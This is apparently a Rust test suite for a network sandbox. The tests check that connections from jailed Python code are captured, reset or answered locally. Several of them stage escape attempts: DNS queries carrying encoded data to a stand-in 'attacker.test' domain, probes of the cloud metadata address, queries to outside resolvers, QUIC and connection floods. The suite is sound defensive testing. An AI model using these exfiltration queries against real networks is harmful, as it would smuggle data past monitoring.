//! Every connection and question goes over the link, or nowhere.

use crate::jail::Jail;

/// Connects to each address and prints what became of it.
const CONNECT: &str = r"
import socket, sys
def attempt(host, port):
    family = socket.AF_INET6 if ':' in host else socket.AF_INET
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(20)
    try:
        s.connect((host, port))
        s.sendall(b'hello')
        return 'answered' if s.recv(100) else 'closed'
    except (ConnectionResetError, BrokenPipeError):
        return 'reset'
    except OSError as error:
        return str(error)
";

#[tokio::test]
async fn any_port_of_any_address_is_captured_and_denied_by_a_reset() {
    let jail = Jail::claimed().await;
    let mut expected = Vec::new();
    for host in [
        "192.0.2.1",
        "10.0.0.1",
        "169.254.169.254",
        "2001:db8::1",
        "fd00:ec2::254",
    ] {
        for port in [22, 80, 443, 853, 5432, 65535] {
            let said = jail
                .python(&format!("{CONNECT}\nprint(attempt('{host}', {port}))"))
                .await;
            assert_eq!(said, "reset\n", "{host} {port}");
            expected.push(format!("connect {host} {port}"));
        }
    }
    assert_eq!(jail.seen(), expected);
}

#[tokio::test]
async fn a_mapped_address_is_carried_as_what_it_is() {
    let jail = Jail::claimed().await;
    jail.python(&format!("{CONNECT}\nprint(attempt('::ffff:192.0.2.9', 22))"))
        .await;
    assert_eq!(jail.seen(), ["connect 192.0.2.9 22"]);
}

#[tokio::test]
async fn a_name_that_is_allowed_gets_an_address_and_the_connection_goes_by_the_name() {
    let jail = Jail::claimed().await;
    let script = r"
import socket
for family in (socket.AF_INET, socket.AF_INET6):
    address = socket.getaddrinfo('GOOD.test', 5432, family, socket.SOCK_STREAM)[0][4]
    again = socket.getaddrinfo('good.test', 5432, family, socket.SOCK_STREAM)[0][4]
    assert address == again, (address, again)
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(20)
    s.connect(address)
    s.sendall(b'echo ' * 50000)
    s.shutdown(socket.SHUT_WR)
    got = b''
    while piece := s.recv(65536):
        got += piece
    print(address[0], len(got))
";
    let said = jail.python(script).await;
    assert_eq!(said, "198.18.0.20 250000\nfdbe:11a6:a12::14 250000\n");
    assert_eq!(
        jail.seen()
            .iter()
            .filter(|seen| *seen == "connect good.test 5432")
            .count(),
        2
    );
}

#[tokio::test]
async fn an_address_that_was_never_given_is_carried_as_a_number() {
    let jail = Jail::claimed().await;
    jail.python(&format!("{CONNECT}\nprint(attempt('198.18.0.77', 443))"))
        .await;
    assert_eq!(jail.seen(), ["connect 198.18.0.77 443"]);
}

#[tokio::test]
async fn the_users_own_server_is_reached_on_loopback_and_asks_nobody() {
    let jail = Jail::claimed().await;
    let script = format!(
        r"{CONNECT}
import threading
for host, through in (('0.0.0.0', '127.0.0.1'), ('0.0.0.0', '127.8.9.10'), ('::', '::1')):
    server = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET, socket.SOCK_STREAM)
    server.bind((host, 0))
    server.listen()
    def serve():
        connection, _ = server.accept()
        connection.recv(100)
        connection.sendall(b'hello yourself')
        connection.close()
    threading.Thread(target=serve, daemon=True).start()
    print(attempt(through, server.getsockname()[1]))
"
    );
    assert_eq!(jail.python(&script).await, "answered\nanswered\nanswered\n");
    assert_eq!(jail.seen(), [""; 0]);
}

#[tokio::test]
async fn the_capturing_port_itself_leads_nowhere() {
    let jail = Jail::claimed().await;
    let said = jail
        .python(&format!("{CONNECT}\nprint(attempt('127.0.0.1', 1), attempt('::1', 1))"))
        .await;
    assert_eq!(said, "reset reset\n");
    assert_eq!(jail.seen(), [""; 0]);
}

/// Asks over UDP or TCP, wherever to, and prints the answer's code and how many answers it has.
const ASK: &str = r"
import socket, struct
def question(name, kind):
    labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
    return struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + struct.pack('>HH', kind, 1)
def read(answer):
    number, flags, questions, answers, _, _ = struct.unpack('>HHHHHH', answer[:12])
    assert number == 7 and flags & 0x8000 and questions == 1
    return f'{flags & 15} {answers}'
def udp(server, name, kind):
    s = socket.socket(socket.AF_INET6 if ':' in server else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(20)
    s.connect((server, 53))
    s.send(question(name, kind))
    return read(s.recv(2000))
def tcp(server, name, kind):
    s = socket.create_connection((server, 53), 20)
    message = question(name, kind)
    s.sendall(struct.pack('>H', len(message)) + message)
    f = s.makefile('rb')
    return read(f.read(struct.unpack('>H', f.read(2))[0]))
";

#[tokio::test]
async fn threat_005_a_question_full_of_data_is_answered_here_and_told_to_the_control_plane() {
    let jail = Jail::claimed().await;
    let name = "mzxw6ytboi2dknrrgyzdgmbq.attacker.test";
    for (kind, code) in [(1, "A"), (28, "AAAA"), (16, "TXT"), (10, "NULL")] {
        let said = jail
            .python(&format!("{ASK}\nprint(udp('198.18.0.1', '{name}', {kind}))"))
            .await;
        assert_eq!(said, "3 0\n", "{code}");
    }
    assert_eq!(jail.seen(), vec![format!("resolve {name}"); 4]);
}

#[tokio::test]
async fn threat_006_a_question_to_another_resolver_is_answered_here() {
    let jail = Jail::claimed().await;
    for server in ["8.8.8.8", "2001:4860:4860::8888"] {
        for way in ["udp", "tcp"] {
            let script = format!("{ASK}\nprint({way}('{server}', 'good.test', 1), {way}('{server}', 'bad.test', 1))");
            assert_eq!(jail.python(&script).await, "0 1 3 0\n", "{way} {server}");
        }
    }
}

#[tokio::test]
async fn threat_004_quic_is_refused_at_once() {
    let jail = Jail::claimed().await;
    let script = r"
import socket
for host in ('192.0.2.1', '2001:db8::1'):
    s = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(20)
    try:
        s.connect((host, 443))
        s.send(b'x' * 1200)
        s.recv(100)
        print('answered')
    except socket.timeout:
        print('dropped')
    except OSError:
        print('refused')
";
    assert_eq!(jail.python(script).await, "refused\nrefused\n");
}

#[tokio::test]
async fn threat_017_a_thousand_connections_at_once_are_reset_and_the_next_is_served() {
    let jail = Jail::claimed().await;
    let script = format!(
        r"{CONNECT}
import asyncio
async def one():
    try:
        reader, writer = await asyncio.open_connection('192.0.2.1', 443)
        return await reader.read(10)
    except OSError:
        return b''
async def all():
    return set(await asyncio.gather(*(one() for _ in range(1000))))
assert asyncio.run(all()) == {{b''}}
print(attempt('192.0.2.2', 80))
"
    );
    assert_eq!(jail.python(&script).await, "reset\n");
    assert!(jail.seen().contains(&"connect 192.0.2.2 80".to_owned()));
}

/// What was carried is cut, and what comes next is carried as before.
#[tokio::test]
async fn who_goes_on_elsewhere_listens_anew_and_knows_its_names_still() {
    let jail = Jail::claimed().await;
    let asks =
        "import socket\nprint(socket.getaddrinfo('good.test', 443, socket.AF_INET, socket.SOCK_STREAM)[0][4][0])";
    let address = jail.python(asks).await;
    let open = r"
import socket
s = socket.socket()
s.settimeout(20)
s.connect((socket.gethostbyname('good.test'), 5432))
s.sendall(b'echo ')
assert s.recv(100)
open('/workspace/open', 'w').close()
try:
    print('closed' if s.recv(100) == b'' else 'went on')
except ConnectionResetError:
    print('closed')
";
    let (said, ()) = tokio::join!(jail.python(open), async {
        let is_open = jail.workspace().join("open");
        testkit::eventually_async("the connection to be open", async || is_open.exists().then_some(())).await;
        jail.claim_again(true).await;
    });
    assert_eq!(
        said, "closed\n",
        "what was carried to where nobody is any more is not left hanging"
    );
    for _ in 0..2 {
        // At once: whoever claims has been answered.
        assert_eq!(jail.python(asks).await, address);
        let said = jail
            .python(&format!(
                "{CONNECT}\nprint(attempt('192.0.2.1', 22), attempt('2001:db8::1', 80))"
            ))
            .await;
        assert_eq!(said, "reset reset\n");
        jail.claim_again(true).await;
    }
    let seen = jail.seen();
    assert_eq!(
        seen.iter().filter(|seen| *seen == "connect 192.0.2.1 22").count(),
        2,
        "{seen:?}"
    );
    let through = r"
import socket
s = socket.create_connection(('127.0.0.1', 3128), 20)
s.sendall(b'CONNECT 192.0.2.7:9 HTTP/1.1\r\nHost: 192.0.2.7:9\r\n\r\n')
print(s.recv(12).decode())
";
    assert!(jail.python(through).await.starts_with("HTTP/1.1 "));
}
